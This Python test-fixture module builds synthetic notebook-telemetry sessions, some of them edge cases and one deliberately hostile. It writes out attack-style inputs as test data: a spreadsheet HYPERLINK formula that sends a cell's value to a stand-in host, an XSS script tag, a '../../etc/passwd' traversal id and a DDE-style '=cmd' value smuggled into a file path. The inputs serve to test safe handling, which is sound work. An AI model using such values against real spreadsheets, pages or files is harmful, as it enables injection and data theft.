"""Sessions that no person would make, and a notebook over two of them."""

from __future__ import annotations

from uuid import UUID

from prompter_events import Event, SessionId
from prompter_events.catalogue import notebook as n
from prompter_events.catalogue import prompts as p
from prompter_events.catalogue import runs as r
from prompter_events.catalogue import study as s
from support.lifelike import BEGIN, Desk, uuid

FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
MARKUP = "<script>alert(1)</script>\"'`]]>{0}%s${x}\\"
NUL = "before\0after"
LINES = "a\rb\r\nc\n\td"
BIG = "x = 1  # " + "é" * 300_000
"""600 kB of one cell."""

SOURCES = ("@decorator", "-1", "+1", "\tindented", "'quoted'", FORMULA, MARKUP, NUL, LINES, BIG, "", " ")
"""A cell each, in this order."""


def hostile(seed: int = 5) -> list[Event]:
    """Everything that may hurt: formulas, markup, NULs, half an emoji, a huge cell, ids and paths that are traps."""
    desk = Desk(seed)
    ids = ["=1+1", "../../etc/passwd", "a\0b", "a\u2400b", "*" * 256]
    path = "../../=cmd|'/C calc'!A0\0.ipynb"
    desk.open(*((cell_id, "code", "") for cell_id in ids), ("md", "markdown", "# %%\n" + MARKUP), path=path)
    for source in SOURCES:
        cell = desk.add("code", source, cause="paste")
        desk.wait(1)
        run = desk.run(cell, "error", 0.1, error=f"{MARKUP}: {FORMULA}")
        prompt = desk.ask(cell, run, FORMULA + MARKUP + NUL, "=rule")
        desk.answer(prompt, source[:1_000], FORMULA)
    emoji = desk.add("code", "😀😀")
    # Half of the first one, which is one of two UTF-16 units.
    desk.emit(n.CellEdited(cell_id=emoji, changes=[(0, [1, -1])], cause="user"))
    desk.emit(n.CellEdited(cell_id=emoji, changes=[(0, [1, "z"])], cause="undo"))
    desk.emit(n.NotebookRenamed(path="/home/=x/\r\n../new.ipynb"))
    desk.emit(s.TaskBegan(name=FORMULA))
    desk.emit(s.CaptureLost(count=3, reason=FORMULA))
    desk.emit(s.CaptureInvalid(reason=MARKUP, claimed_type=FORMULA, claimed_version=1, raw=b"\xff\x00", size=2))
    _impossible(desk)
    return desk.events


def _impossible(desk: Desk) -> None:
    """What contradicts everything before."""
    strange = uuid(desk.seed, "nobody knows this")
    desk.emit(n.CellEdited(cell_id="ghost", changes=[(0, [5, "x"])], cause="user"))
    desk.emit(n.CellRemoved(cell_id="ghost", index=99, cause="cut"))
    desk.emit(n.CellMoved(cell_id="ghost", from_=7, to=9_000))
    desk.emit(n.CellTypeChanged(cell_id="ghost", cell_type="raw"))
    desk.emit(
        n.CellAdded(cell_id="=1+1", index=999, cell_type="code", source="twice", cause="merge", parents=["ghost"])
    )
    desk.emit(r.RunStarted(run_id=strange))
    desk.emit(r.RunFinished(run_id=strange, status="ok", execution_count=1, duration_ms=1))
    desk.emit(p.PromptAnswered(prompt_id=strange, text="to nothing", choice=None, drafting_ms=0))
    desk.emit(p.PromptShown(prompt_id=strange))
    facts = r.EstimatorFact(name="", kind=MARKUP, did="scored", metric="auc", value=float("nan"))
    desk.emit(r.KernelFacts(run_id=strange, read=[FORMULA], bound=[NUL], estimators=[facts]))
    desk.emit(r.KernelFacts(run_id=None, read=[], bound=[]))


def empty(seed: int = 6) -> list[Event]:
    """A notebook without cells, opened and left."""
    desk = Desk(seed)
    desk.open()
    return desk.events


def unaccepted(seed: int = 7) -> list[Event]:
    """A session that the server never accepted, without anything but its beginning."""
    desk = Desk(seed)
    desk.open(("only", "code", "x = 1"))
    return desk.events[:1]


def two_sessions(seed: int = 8) -> tuple[list[Event], list[Event]]:
    """Asked in one session, answered in the next one of the same notebook, which continues it."""
    desk = Desk(seed)
    desk.open(("c1", "code", "a = 1"))
    run = desk.run("c1", output="1")
    prompt = desk.ask("c1", run, "What are you trying to do?", "new-cell")
    desk.emit(n.SessionClosed(reason="reload"))
    first, asked_in = desk.events, desk.session_id
    desk.events = []
    desk.session_id = SessionId(uuid(seed, "second session"))
    desk.now += 60
    desk.cells = []
    desk.open(("c1", "code", "a = 1"))
    opened = desk.events[0].body
    assert isinstance(opened, n.SessionOpened)
    desk.events[0] = _continuing(desk, opened, asked_in)
    desk.answer(prompt, "I count.", "check")
    desk.emit(p.PromptAmended(prompt_id=prompt, text="I count twice.", choice=None))
    return first, desk.events


def _continuing(desk: Desk, opened: n.SessionOpened, before: UUID) -> Event:
    from msgspec.structs import replace

    from prompter_events.event import draft

    event = desk.events[0]
    made = draft(
        replace(opened, continues=before),
        session_id=desk.session_id,
        producer_id=event.producer_id,
        producer_seq=event.producer_seq,
        participant_id=desk.participant_id,
        occurred_at=event.occurred_at,
    )
    return replace(made, position=event.position, recorded_at=event.recorded_at)


def parsing(seed: int = 9) -> list[Event]:
    """A cell that Python cannot parse, one that is interrupted, one of a task, one by a collaborator."""
    desk = Desk(seed)
    desk.open(("c1", "code", "x = ("))
    desk.emit(s.TaskBegan(name="clean"))
    desk.run("c1", "error", error="SyntaxError: '(' was never closed (3921.py, line 7)")
    desk.emit(s.TaskEnded(name="clean"))
    desk.run("c1", "error", error="KeyboardInterrupt: ")
    author = uuid(seed, "colleague")
    desk.emit(n.CellEdited(cell_id="c1", changes=[(0, [5, "1)"])], cause="remote", author=author))
    desk.cells[0][2] = "x = (1)"
    desk.run("c1")
    desk.emit(n.NotebookReloaded(cells=[n.CellSnapshot(cell_id="c2", cell_type="code", source="y = 2")]))
    desk.emit(n.SessionClosed(reason="tab closed"))
    return desk.events


__all__ = [
    "BEGIN",
    "BIG",
    "FORMULA",
    "LINES",
    "MARKUP",
    "NUL",
    "SOURCES",
    "empty",
    "hostile",
    "parsing",
    "two_sessions",
    "unaccepted",
]
